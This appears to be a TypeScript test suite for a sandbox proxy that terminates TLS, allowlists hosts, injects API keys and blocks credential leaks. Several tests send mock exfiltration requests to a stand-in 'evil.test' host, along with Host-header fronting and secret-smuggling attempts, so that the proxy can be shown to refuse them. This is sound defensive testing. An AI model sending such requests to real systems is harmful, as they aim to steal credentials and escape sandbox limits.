import { X509Certificate } from "node:crypto"
import * as tls from "node:tls"
import { afterAll, assert, beforeAll, describe, it } from "@effect/vitest"
import { Agent, fetch } from "undici"
import { curl, loopbackLookup } from "./support/Clients.ts"
import { startWorld, viaProxy } from "./support/TestWorld.ts"
import type { TestWorld } from "./support/TestWorld.ts"

let world: TestWorld
beforeAll(async () => {
  world = await startWorld()
})
afterAll(() => world?.close())

const receivedBy = (host: string) => world.upstreams.received.filter((r) => r.host === host)

describe("proxy: TLS termination, allowlist and injection (real curl, real upstream)", () => {
  it("reports ready with a public per-VM CA certificate only", () => {
    const ca = new X509Certificate(world.proxy.caPem)
    assert.isTrue(ca.ca)
    assert.notInclude(world.proxy.stdoutLines.join("\n"), "PRIVATE KEY")
    assert.isAbove(world.proxy.ports.https, 0)
    assert.notStrictEqual(world.proxy.ports.https, world.proxy.ports.http)
  })

  it("injects the credential for the matching host only, replacing a forged client header", async () => {
    const res = await curl([...viaProxy(world, "api.anthropic.com", "/v1/messages?key=abc"), "-H", "x-api-key: forged"])
    assert.strictEqual(res.status, 200)
    const got = receivedBy("api.anthropic.com").at(-1)!
    assert.strictEqual(got.headers["x-api-key"], world.secrets.anthropic) // replaced, not merged
    assert.strictEqual(got.url, "/v1/messages?key=abc")
    // The fake API reflects its headers: the value must come back redacted, never in clear.
    assert.notInclude(res.body, world.secrets.anthropic)
    assert.include(res.body, "redacted-by-paws")
    const audit = await world.proxy.waitForAudit((e) => e.host === "api.anthropic.com" && e.decision === "allowed")
    assert.deepStrictEqual(audit.injected, ["x-api-key"])
    assert.strictEqual(audit.path, "/v1/messages?key")
    assert.strictEqual(audit.status, 200)

    const other = await curl([...viaProxy(world, "other.test"), "-H", "x-api-key: guest-value"])
    assert.strictEqual(other.status, 200)
    const otherGot = receivedBy("other.test").at(-1)!
    assert.strictEqual(otherGot.headers["x-api-key"], "guest-value") // no injection into any other host
    assert.isUndefined(otherGot.headers["authorization"])
  })

  it("matches wildcards below the apex only", async () => {
    assert.strictEqual((await curl(viaProxy(world, "a.wild.test"))).status, 200)
    const apex = await curl(viaProxy(world, "wild.test"))
    assert.strictEqual(apex.status, 403)
    assert.strictEqual(receivedBy("wild.test").length, 0)
  })

  it("refuses hosts off the allowlist with a readable reason and an audit event", async () => {
    const res = await curl(viaProxy(world, "evil.test", "/exfil"))
    assert.strictEqual(res.status, 403)
    assert.include(res.body, "evil.test is not on this sandbox's allowlist")
    assert.strictEqual(res.headers["x-paws-decision"], "denied_host")
    assert.strictEqual(receivedBy("evil.test").length, 0)
    await world.proxy.waitForAudit((e) => e.host === "evil.test" && e.decision === "denied_host")
  })

  it("answers 421 when Host differs from SNI, and forwards nothing", async () => {
    const before = world.upstreams.received.length
    const res = await curl([...viaProxy(world, "other.test"), "-H", "Host: api.anthropic.com"])
    assert.strictEqual(res.status, 421)
    assert.include(res.body, "does not match the TLS server name (other.test)")
    assert.strictEqual(world.upstreams.received.length, before)
    await world.proxy.waitForAudit((e) => e.decision === "host_mismatch")
  })

  it("refuses absolute-form targets and forwards a single Host (no fronting through a shared upstream)", async () => {
    const before = world.upstreams.received.length
    const absolute = await curl([...viaProxy(world, "other.test"), "--request-target", "https://evil.test/steal"])
    assert.strictEqual(absolute.status, 400)
    assert.include(absolute.body, "origin-form")
    assert.strictEqual(world.upstreams.received.length, before)

    const answer = await new Promise<string>((resolve, reject) => {
      const socket = tls.connect({
        host: "127.0.0.1",
        port: world.proxy.ports.https,
        servername: "other.test",
        ca: world.proxy.caPem,
      }, () => socket.write("GET /dup HTTP/1.1\r\nHost: other.test\r\nHost: evil.test\r\nConnection: close\r\n\r\n"))
      let text = ""
      socket.on("data", (c: Buffer) => (text += c.toString()))
      socket.on("end", () => resolve(text))
      socket.on("error", reject)
    })
    const dup = world.upstreams.received.filter((r) => r.url === "/dup")
    // Either refused outright or forwarded with exactly the Host that matched the SNI.
    if (dup.length > 0) assert.strictEqual(dup[0]!.headers["host"], "other.test")
    else assert.match(answer, /^HTTP\/1.1 4\d\d/)
  })

  it("refuses a TLS connection without SNI", async () => {
    // tls.connect to an IP address sends no SNI (Node's https would derive one from the Host header).
    const answer = await new Promise<string>((resolve, reject) => {
      const socket = tls.connect(
        { host: "127.0.0.1", port: world.proxy.ports.https, rejectUnauthorized: false },
        () => {
          socket.end("GET / HTTP/1.1\r\nHost: api.anthropic.com\r\nConnection: close\r\n\r\n")
        },
      )
      let text = ""
      socket.on("data", (c: Buffer) => (text += c.toString()))
      socket.on("end", () => resolve(text))
      socket.on("error", reject)
    })
    const status = Number.parseInt(answer.split(" ")[1]!, 10)
    assert.include(answer, "did not name a server (SNI)")
    assert.strictEqual(status, 421)
    await world.proxy.waitForAudit((e) => e.decision === "no_sni")
  })

  it("redirects plain HTTP for allowlisted hosts, injects nothing and refuses others", async () => {
    const before = world.upstreams.received.length
    const port = world.proxy.ports.http
    const res = await curl([
      "--resolve",
      `api.anthropic.com:${port}:127.0.0.1`,
      `http://api.anthropic.com:${port}/v1/models?x=1`,
    ])
    assert.strictEqual(res.status, 308)
    assert.strictEqual(res.headers["location"], "https://api.anthropic.com/v1/models?x=1")
    assert.notInclude(JSON.stringify(res), world.secrets.anthropic)
    const denied = await curl(["--resolve", `evil.test:${port}:127.0.0.1`, `http://evil.test:${port}/`])
    assert.strictEqual(denied.status, 403)
    assert.strictEqual(world.upstreams.received.length, before)
    await world.proxy.waitForAudit((e) => e.decision === "redirected" && e.host === "api.anthropic.com")
  })

  it("blocks a request that carries another host's credential value", async () => {
    const before = receivedBy("other.test").length
    const res = await curl([...viaProxy(world, "other.test"), "-H", `x-smuggle: ${world.secrets.anthropic}`])
    assert.strictEqual(res.status, 403)
    assert.strictEqual(res.headers["x-paws-decision"], "credential_leak")
    const inUrl = await curl(viaProxy(world, "other.test", `/?k=${encodeURIComponent(world.secrets.echo)}`))
    assert.strictEqual(inUrl.status, 403)
    const inBody = await curl([...viaProxy(world, "other.test"), "--data-binary", `{"stolen":"${world.secrets.ws}"}`])
    assert.strictEqual(inBody.status, 403)
    // Header and URL leaks never left the proxy; the body leak was cut before the value went out.
    assert.isAtMost(receivedBy("other.test").length, before + 1)
    for (const r of receivedBy("other.test")) assert.notInclude(JSON.stringify(r), world.secrets.anthropic)
    await world.proxy.waitForAudit((e) => e.decision === "credential_leak" && e.host === "other.test")
  })

  it("works for fetch (undici, the engine of Node fetch) trusting only the per-VM CA", async () => {
    const dispatcher = new Agent({ connect: { ca: world.proxy.caPem, lookup: loopbackLookup } })
    const res = await fetch(`https://api.anthropic.com:${world.proxy.ports.https}/v1/complete`, {
      method: "POST",
      body: JSON.stringify({ prompt: "hi" }),
      headers: { "content-type": "application/json" },
      dispatcher,
    })
    assert.strictEqual(res.status, 200)
    const body = (await res.json()) as { headers: Record<string, string> }
    assert.match(body.headers["x-api-key"]!, /^\[redacted-by-paws\]\**$/)
    assert.strictEqual(receivedBy("api.anthropic.com").at(-1)!.headers["x-api-key"], world.secrets.anthropic)
    await dispatcher.close()
  })

  it("never lets a credential value reach its stdout or stderr", async () => {
    // Drive a request to every credentialed host so that there is plenty to log.
    await curl(viaProxy(world, "echo.test"))
    await curl(viaProxy(world, "api.anthropic.com"))
    await world.proxy.waitForAudit((e) => e.host === "echo.test")
    const everything = world.proxy.stdoutLines.join("\n") + world.proxy.stderr()
    for (const secret of Object.values(world.secrets)) assert.notInclude(everything, secret)
    assert.notInclude(everything, Buffer.from(world.secrets.anthropic).toString("base64"))
  })
})
